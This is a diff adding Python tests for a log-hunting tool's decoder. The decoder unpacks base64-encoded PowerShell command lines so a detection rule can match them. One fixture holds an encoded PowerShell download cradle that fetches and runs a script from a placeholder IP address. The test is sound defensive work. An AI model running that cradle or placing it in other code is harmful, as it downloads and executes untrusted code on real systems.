@@ -1,0 +1,75 @@
+"""Decoded text is matched in a second pass, and findings carry the analysis of what they stand on."""
+
+# ruff: noqa: E501 - samples are not broken in two
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+
+from perilune import pipeline
+from perilune.analysis import analyze
+from perilune.decoding import ACTION, SHOWN, Decoder, brief
+from tests.build import process, table
+
+HIDDEN = base64.b64encode(
+    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/zebra')".encode("utf-16-le")
+).decode()
+COMMAND = f"powershell.exe -nop -e {HIDDEN}"
+
+
+def test_a_hidden_text_becomes_a_row_with_its_process_and_place() -> None:
+    made = Decoder().rows_of(
+        table("DeviceProcessEvents", process(7, 1, "C:\\Windows\\powershell.exe", command=COMMAND))
+    )
+    assert made is not None
+    assert made.name == "XScriptEvents"
+    row = made.row(0)
+    assert row["ActionType"] == ACTION
+    assert "zebra" in str(row["XScriptText"])
+    assert (row["XScriptLanguage"], row["InitiatingProcessId"], row["XSourceRecord"]) == ("powershell", 7, 1)
+    assert json.loads(str(row["AdditionalFields"])) == {"Decoding": "base64", "Layer": 1}
+
+
+def test_plain_commands_make_no_rows() -> None:
+    plain = [process(n, 1, "/bin/x", command=command) for n, command in enumerate(("ls -l", "bash -c 'id'", "git log"))]
+    assert Decoder().rows_of(table("DeviceProcessEvents", *plain)) is None
+
+
+def test_a_decoded_row_is_not_decoded_again() -> None:
+    decoder = Decoder()
+    first = decoder.rows_of(table("DeviceProcessEvents", process(7, 1, "C:\\powershell.exe", command=COMMAND)))
+    assert first is not None
+    assert decoder.rows_of(first) is None
+
+
+def test_the_second_pass_finds_what_only_the_decoded_text_says(tmp_path: Path) -> None:
+    rule = tmp_path / "rule.yml"
+    rule.write_text(
+        "title: Zebra\nid: 11111111-2222-3333-4444-555555555555\nlevel: high\nlogsource: {category: ps_script, product: windows}\n"
+        "detection: {s: {ScriptBlockText|contains: zebra}, condition: s}\n"
+    )
+    log = tmp_path / "events.jsonl"
+    log.write_text(
+        json.dumps(
+            {"Timestamp": "2026-11-20T09:00:00Z", "DeviceName": "pc-1", "ActionType": "ProcessCreated", "FileName": "powershell.exe",
+             "FolderPath": "C:\\Windows\\powershell.exe", "ProcessId": 7, "ProcessCommandLine": COMMAND, "InitiatingProcessId": 1}
+        )
+        + "\n"
+    )  # fmt: skip
+    found = pipeline.hunt([log], rules=[rule], pack=False)
+    try:
+        assert [one.rule_title for one in found.findings] == ["Zebra"]
+        finding = found.findings[0]
+        assert finding.analysis is not None
+        assert finding.analysis.score >= 30
+        assert finding.row["InitiatingProcessCommandLine"] == COMMAND
+    finally:
+        found.spool.close()
+
+
+def test_a_kept_analysis_says_where_it_was_cut() -> None:
+    kept = brief(analyze("echo " + "a" * 10_000))
+    assert len(kept.text) == SHOWN
+    assert "of 10,005 characters" in kept.layers[0].note
